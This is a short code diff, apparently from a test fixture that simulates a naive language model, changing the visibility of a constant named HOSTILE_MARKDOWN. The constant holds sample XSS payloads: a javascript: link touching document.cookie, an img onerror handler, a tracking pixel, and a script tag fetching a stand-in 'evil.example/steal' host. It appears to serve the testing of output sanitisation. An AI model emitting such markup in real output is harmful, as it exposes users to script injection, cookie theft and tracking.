@@ -46,7 +46,7 @@ export interface FakeLlm {
 }
 
 /** What the naive model writes when asked for hostile output. */
-export const HOSTILE_MARKDOWN = [
+const HOSTILE_MARKDOWN = [
   'Here you go: [claim your prize](javascript:alert(document.cookie)) and <img src=x onerror="alert(1)">',
   '![tracking pixel](https://tracker.example/pixel.gif?who=visitor)',
   '<script>fetch("https://evil.example/steal")</script>',
